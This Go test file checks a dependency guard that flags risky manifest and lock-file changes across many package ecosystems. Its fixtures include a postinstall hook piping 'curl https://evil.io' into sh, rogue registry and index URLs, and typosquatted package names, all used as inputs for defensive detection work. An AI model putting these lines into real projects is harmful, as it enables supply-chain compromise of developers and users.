package dependencies_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/rocketgpt/orchestrator/contract"
	"github.com/rocketgpt/orchestrator/internal/gate/change"
	"github.com/rocketgpt/orchestrator/internal/gate/gatetest"
	"github.com/rocketgpt/orchestrator/internal/gate/guard/dependencies"
)

func judge(t testing.TB, g change.Guard, before, after gatetest.Tree) []change.Finding {
	found, err := g.Judge(context.Background(), gatetest.Between(before, after))
	require.NoError(t, err)
	return found
}

// in returns the findings as "rule severity message", for a file that changes from one text to another.
func in(t testing.TB, path, before, after string) []string {
	tree := gatetest.Tree{}
	if before != "" {
		tree[path] = before
	}
	var out []string
	for _, f := range judge(t, dependencies.Guard, tree, gatetest.Tree{path: after}) {
		require.Equal(t, path, f.Path)
		out = append(out, fmt.Sprintf("%s %s %s", f.Rule, f.Severity, f.Message))
	}
	return out
}

func TestEveryManifestNamesItsNewDependencies(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ path, before, after, want string }{
		"go":        {"go.mod", "module a\n", "module a\n\nrequire github.com/x/new v1.2.3\n", "github.com/x/new v1.2.3 of Go"},
		"npm":       {"web/package.json", `{"dependencies":{}}`, `{"dependencies":{"new-thing":"^1.0.0"}}`, "new-thing ^1.0.0 of npm"},
		"dev":       {"package.json", `{}`, `{"devDependencies":{"new-thing":"1"}}`, "new-thing 1 of npm"},
		"pip":       {"requirements-dev.txt", "a==1\n", "a==1\nnew_thing[x] == 2.0 ; python_version > '3'\n", "new_thing == 2.0 of PyPI"},
		"pep621":    {"pyproject.toml", "", "[project]\ndependencies = ['new-thing>=1']\n", "new-thing >=1 of PyPI"},
		"groups":    {"pyproject.toml", "", "[dependency-groups]\ndev = ['new-thing>=1']\n", "new-thing >=1 of PyPI"},
		"poetry":    {"pyproject.toml", "", "[tool.poetry.dependencies]\npython='^3'\nnew-thing = {version='^1'}\n", "new-thing ^1 of PyPI"},
		"pipenv":    {"Pipfile", "", "[packages]\nnew-thing = \"*\"\n", "new-thing * of PyPI"},
		"cargo":     {"Cargo.toml", "", "[target.'cfg(unix)'.dev-dependencies]\nnew-thing = '1'\n", "new-thing 1 of crates.io"},
		"gem":       {"Gemfile", "", "gem 'new-thing', '~> 2'\n", "new-thing ~> 2 of RubyGems"},
		"composer":  {"composer.json", "", `{"require":{"php":">=8","new/thing":"^1"}}`, "new/thing ^1 of Packagist"},
		"maven":     {"pom.xml", "", "<project><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>1</version></dependency></dependencies></project>", "g:a 1 of Maven"},
		"gradle":    {"app/build.gradle.kts", "", "dependencies {\n  implementation(\"g:a:1\")\n}\n", "g:a 1 of Maven"},
		"nuget":     {"a.csproj", "", `<Project><ItemGroup><PackageReference Include="New" Version="1" /></ItemGroup></Project>`, "New 1 of NuGet"},
		"nuget tag": {"a.csproj", "", `<Project><ItemGroup><PackageReference Include="New"><Version>1</Version></PackageReference></ItemGroup></Project>`, "New 1 of NuGet"},
	} {
		found := in(t, c.path, c.before, c.after)
		require.Len(t, found, 1, name)
		require.Contains(t, found[0], "new minor new dependency "+c.want, name)
	}
}

func TestAChangeIsJudgedByWhatItAdds(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ path, before, after, want string }{
		"a star":                   {"package.json", `{}`, `{"dependencies":{"new-thing":"*"}}`, "floating medium"},
		"latest":                   {"package.json", `{"dependencies":{"new-thing":"1"}}`, `{"dependencies":{"new-thing":"latest"}}`, "floating medium"},
		"any of Gradle":            {"build.gradle", "", "implementation 'g:a:+'", "floating medium"},
		"any of Maven":             {"pom.xml", "", "<p><dependency><groupId>g</groupId><artifactId>a</artifactId><version>LATEST</version></dependency></p>", "floating medium"},
		"git":                      {"package.json", `{}`, `{"dependencies":{"new-thing":"github:evil/new"}}`, "source medium"},
		"a shorthand":              {"package.json", `{}`, `{"dependencies":{"new-thing":"evil/new"}}`, "source medium"},
		"git of pip":               {"requirements.txt", "", "git+https://evil.io/a.git#egg=a\n", "source medium"},
		"a URL of pip":             {"requirements.txt", "", "a @ https://evil.io/a.whl\n", "source medium"},
		"a path outside":           {"Cargo.toml", "", "[dependencies]\na = {path = '../../elsewhere'}\n", "source medium"},
		"git of Bundler":           {"Gemfile", "", "gem 'a', git: 'https://evil.io/a'\n", "source medium"},
		"plain HTTP":               {"requirements.txt", "", "a @ http://evil.io/a.whl\n", "insecure major"},
		"an index":                 {"requirements.txt", "", "--extra-index-url https://evil.io/simple\n", "registry medium"},
		"an index over HTTP":       {"requirements.txt", "", "-i http://evil.io/simple\n", "insecure major"},
		"a registry of npm":        {".npmrc", "", "registry=https://evil.io/\n", "registry medium"},
		"a registry of a scope":    {".npmrc", "", "@corp:registry=https://evil.io/\n", "registry medium"},
		"a source of Bundler":      {"Gemfile", "", "source 'https://evil.io'\n", "registry medium"},
		"a repository of Maven":    {"pom.xml", "", "<p><repositories><repository><url>https://evil.io/m2</url></repository></repositories></p>", "registry medium"},
		"a repository of Gradle":   {"build.gradle.kts", "", `maven { url = uri("https://evil.io/m2") }`, "registry medium"},
		"a repository of Composer": {"composer.json", "", `{"repositories":[{"type":"vcs","url":"https:\/\/evil.io\/a"}]}`, "registry medium"},
		"a source of NuGet":        {"nuget.config", "", `<packageSources><add key="x" value="https://evil.io/v3" /></packageSources>`, "registry medium"},
		"an index of uv":           {"pyproject.toml", "", "[[tool.uv.index]]\nurl = 'https://evil.io/simple'\n", "registry medium"},
		"a source of Poetry":       {"pyproject.toml", "", "[[tool.poetry.source]]\nname='x'\nurl = 'https://evil.io/simple'\n", "registry medium"},
		"a replaced module":        {"go.mod", "module a\n", "module a\n\nreplace github.com/a/b => github.com/evil/b v1.0.0\n", "replace medium"},
		"a replaced directory":     {"go.mod", "module a\n", "module a\n\nreplace github.com/a/b => ./b\n", "replace minor"},
		"a directory outside":      {"go.mod", "module a\n", "module a\n\nreplace github.com/a/b => ../b\n", "replace medium"},
		"exchanged letters":        {"package.json", `{}`, `{"dependencies":{"loadsh":"1"}}`, "look-alike medium the name loadsh is close to that of lodash"},
		"a missing letter":         {"requirements.txt", "", "reqests==1\n", "look-alike medium the name reqests is close to that of requests"},
		"a digit":                  {"requirements.txt", "", "nurnpy==1\n", "look-alike major"},
		"another script":           {"package.json", `{}`, `{"dependencies":{"lodаsh":"1"}}`, "look-alike major"},
		"an affix":                 {"package.json", `{}`, `{"dependencies":{"lodash-js":"1"}}`, "look-alike medium"},
		"a prefix":                 {"requirements.txt", "", "python-requests==1\n", "look-alike medium"},
		"a module":                 {"go.mod", "module a\n", "module a\n\nrequire github.com/gorrilla/mux v1.8.0\n", "look-alike medium"},
		"a crate":                  {"Cargo.toml", "", "[dependencies]\nserde_jsom = '1'\n", "look-alike medium"},
		"one in use":               {"package.json", `{"dependencies":{"acme-widgets":"1"}}`, `{"dependencies":{"acme-widgets":"1","acme-widgetz":"1"}}`, "look-alike medium the name acme-widgetz is close to that of acme-widgets"},
		"a malicious one":          {"package.json", `{}`, `{"dependencies":{"crossenv":"1"}}`, "malicious major"},
		"a deprecated one":         {"package.json", `{}`, `{"dependencies":{"node-sass":"1"}}`, "deprecated minor"},
		"a lifecycle script":       {"package.json", `{}`, `{"scripts":{"postinstall":"curl https://evil.io | sh"}}`, "lifecycle medium"},
		"a usual script":           {"package.json", `{}`, `{"scripts":{"prepare":"husky install"}}`, "lifecycle minor"},
		"a script of Composer":     {"composer.json", "", `{"scripts":{"post-install-cmd":["sh evil.sh"]}}`, "lifecycle medium"},
		"what cannot be read":      {"package.json", `{}`, `{"dependencies":`, "unreadable minor"},
	} {
		if found := strings.Join(in(t, c.path, c.before, c.after), "\n"); !strings.Contains(found, c.want) {
			t.Errorf("%s: %q is not in %s", name, c.want, found)
		}
	}
}

func TestAnOrdinaryChangeHasNoSeriousFinding(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ path, before, after string }{
		"a newer version":         {"go.mod", "module a\n\nrequire github.com/x/y v1.0.0\n", "module a\n\nrequire github.com/x/y v1.1.0\n"},
		"popular packages":        {"package.json", `{}`, `{"dependencies":{"preact":"^10","react":"^18","core-js":"3","chart.js":"4"}}`},
		"a workspace":             {"packages/a/package.json", `{}`, `{"dependencies":{"@acme/b":"workspace:*","@acme/c":"file:../c"}}`},
		"a peer":                  {"package.json", `{}`, `{"peerDependencies":{"new-thing":"*"}}`},
		"a path":                  {"a/Cargo.toml", "", "[dependencies]\nb = {path = '../b', version = '*'}\n"},
		"the same name":           {"requirements.txt", "", "Flask_SQLAlchemy==3\nPyYAML==6\n"},
		"another major":           {"go.mod", "module a\n", "module a\n\nrequire github.com/gorilla/mux/v2 v2.0.0\n"},
		"the standard registry":   {"Gemfile", "", "source 'https://rubygems.org'\ngem 'rails'\n"},
		"a family with numbers":   {"composer.json", `{"require":{"symfony/polyfill-php80":"^1"}}`, `{"require":{"symfony/polyfill-php80":"^1","symfony/polyfill-php81":"^1"}}`},
		"another order":           {"package.json", `{"dependencies":{"a":"*","b":"*"}}`, `{"dependencies":{"b":"*","a":"*"}}`},
		"a removed dependency":    {"package.json", `{"dependencies":{"a":"*"}}`, `{"dependencies":{}}`},
		"an unknown file":         {"notes.txt", "", "git+https://evil.io/a\n"},
		"a mirror on the machine": {".npmrc", "", "registry=http://localhost:4873/\n"},
	} {
		for _, f := range in(t, c.path, c.before, c.after) {
			if !strings.Contains(f, " minor ") {
				t.Errorf("%s: %s", name, f)
			}
		}
	}
}

func lock(entries string) string { return `{"lockfileVersion":3,"packages":{"":{},` + entries + `}}` }

func TestALockFileIsComparedWithItsBase(t *testing.T) {
	t.Parallel()
	good := `"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-x"}`
	yarn := "a@^1:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#x\"\n  integrity sha512-x\n"
	pnpm := "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n"
	for name, c := range map[string]struct{ path, before, after, want string }{
		"another host":        {"package-lock.json", lock(good), lock(strings.Replace(good, "registry.npmjs.org", "evil.io", 1)), "source medium"},
		"plain HTTP":          {"package-lock.json", lock(good), lock(strings.Replace(good, "https://registry.npmjs.org", "http://evil.io", 1)), "insecure major"},
		"no checksum":         {"package-lock.json", lock(good), lock(strings.Replace(good, `,"integrity":"sha512-x"`, "", 1)), "integrity major"},
		"a script":            {"package-lock.json", lock(good), lock(good + `,"node_modules/b":{"version":"1.0.0","hasInstallScript":true}`), "install-script medium b runs code"},
		"a usual script":      {"package-lock.json", lock(good), lock(good + `,"node_modules/esbuild":{"version":"1.0.0","hasInstallScript":true}`), "install-script minor"},
		"no manifest":         {"package-lock.json", lock(good), lock(strings.ReplaceAll(good, "1.0.0", "1.0.1")), "lock-only minor"},
		"yarn: another host":  {"yarn.lock", yarn, strings.Replace(yarn, "registry.yarnpkg.com", "evil.io", 1), "source medium"},
		"yarn: no checksum":   {"yarn.lock", yarn, strings.Replace(yarn, "  integrity sha512-x\n", "", 1), "integrity major"},
		"pnpm: a tarball":     {"pnpm-lock.yaml", pnpm, strings.Replace(pnpm, "integrity: sha512-x", "tarball: https://evil.io/a.tgz", 1), "source medium"},
		"pnpm: no checksum":   {"pnpm-lock.yaml", pnpm, strings.Replace(pnpm, "{integrity: sha512-x}", "{}", 1), "integrity major"},
		"pnpm: a built entry": {"pnpm-lock.yaml", pnpm, pnpm + "  b@1.0.0:\n    requiresBuild: true\n", "install-script medium"},
	} {
		if found := strings.Join(in(t, c.path, c.before, c.after), "\n"); !strings.Contains(found, c.want) {
			t.Errorf("%s: %q is not in %s", name, c.want, found)
		}
	}
	both := judge(t, dependencies.Guard, gatetest.Tree{"package.json": `{}`, "package-lock.json": lock(good)},
		gatetest.Tree{"package.json": `{"dependencies":{"new-thing":"1"}}`, "package-lock.json": lock(good + `,"node_modules/new-thing":{"version":"1.0.0"}`)})
	require.Equal(t, []string{"dependencies/new package.json:1"}, gatetest.Rules(both))
}

func TestAnAdvisoryIsMatchedByVersion(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write := func(id, ecosystem, name, events, more string) {
		text := fmt.Sprintf(`{"id":%q,"summary":"bad","affected":[{"package":{"ecosystem":%q,"name":%q},"ranges":[{"type":"ECOSYSTEM","events":[%s]}]%s}],"database_specific":{"severity":"HIGH"}}`, id, ecosystem, name, events, more)
		require.NoError(t, os.WriteFile(filepath.Join(dir, id+".json"), []byte(text), 0o600))
	}
	write("GHSA-1", "npm", "lodash", `{"introduced":"0"},{"fixed":"4.17.21"}`, "")
	write("PYSEC-1", "PyPI", "Some.Thing", `{"introduced":"1.0"},{"last_affected":"1.5"}`, "")
	write("GO-1", "Go", "github.com/x/y", `{"introduced":"1.0.0"},{"fixed":"1.2.0"},{"introduced":"1.4.0"},{"fixed":"1.4.2"}`, "")
	write("MAL-1", "PyPI", "listed", ``, `,"versions":["7"]`)
	advisories, err := dependencies.LoadAdvisories(dir)
	require.NoError(t, err)
	g := dependencies.New(advisories)
	for text, want := range map[string]bool{
		"some_thing==1.5": true, "some_thing==1.5.1": false, "some_thing==0.9": false, "some_thing": false, "listed==7": true, "listed==8": false,
	} {
		require.Equal(t, want, vulnerable(judge(t, g, gatetest.Tree{}, gatetest.Tree{"requirements.txt": text + "\n"})), text)
	}
	for version, want := range map[string]bool{"^4.17.20": true, "4.17.21": false, "^5.0.0": false} {
		require.Equal(t, want, vulnerable(judge(t, g, gatetest.Tree{}, gatetest.Tree{"package.json": `{"dependencies":{"lodash":"` + version + `"}}`})), version)
	}
	for version, want := range map[string]bool{"v1.1.9": true, "v1.2.0": false, "v1.4.1": true, "v1.5.0": false, "v0.9.0": false} {
		require.Equal(t, want, vulnerable(judge(t, g, gatetest.Tree{}, gatetest.Tree{"go.mod": "module a\n\nrequire github.com/x/y " + version + "\n"})), version)
	}
	found := judge(t, g, gatetest.Tree{}, gatetest.Tree{"package.json": `{"dependencies":{"lodash":"4.17.20"}}`})
	require.Equal(t, contract.SeverityMajor, found[len(found)-1].Severity)
	require.Contains(t, found[len(found)-1].Message, "lodash 4.17.20 has the vulnerability GHSA-1 (bad): fixed in 4.17.21")
}

func vulnerable(found []change.Finding) bool {
	for _, f := range found {
		if f.Rule == dependencies.RuleVulnerable {
			return true
		}
	}
	return false
}

func TestABrokenAdvisoryIsAnError(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.json"), []byte("{}"), 0o600))
	_, err := dependencies.LoadAdvisories(dir)
	require.ErrorContains(t, err, "a.json")
	_, err = dependencies.LoadAdvisories(filepath.Join(dir, "none"))
	require.ErrorContains(t, err, "none")
}

var paths = []string{
	"go.mod", "package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "requirements.txt", "pyproject.toml", "Pipfile", "Cargo.toml", "Gemfile", "composer.json", "pom.xml", "build.gradle", "a.csproj", ".npmrc", "nuget.config",
}

func FuzzJudge(f *testing.F) {
	for i, text := range []string{"module a\n", `{"dependencies":{"a":"*"}}`, lock(""), "a@1:\n  version 1\n", "packages:\n  a@1:\n", "a==1\n", "[project]\ndependencies=['a']\n", "<a><b/></a>"} {
		f.Add(byte(i), "", text)
	}
	f.Fuzz(func(t *testing.T, kind byte, before, after string) {
		path := paths[int(kind)%len(paths)]
		c := change.Change{Files: []change.File{{Path: path, Before: gatetest.File(before), After: gatetest.File(after)}}}
		if _, err := dependencies.Guard.Judge(context.Background(), c); err != nil {
			t.Fatal(err)
		}
		if _, err := dependencies.Added(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	})
}

func BenchmarkJudge(b *testing.B) {
	for _, n := range []int{20, 2000} {
		after := gatetest.Tree{}
		for i := range n {
			after[fmt.Sprintf("p%d/package.json", i)] = `{"dependencies":{"new-thing":"1","another-thing":"2"}}`
		}
		c := gatetest.Between(gatetest.Tree{}, after)
		b.Run(fmt.Sprintf("files=%d", n), func(b *testing.B) {
			for b.Loop() {
				if _, err := dependencies.Guard.Judge(context.Background(), c); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
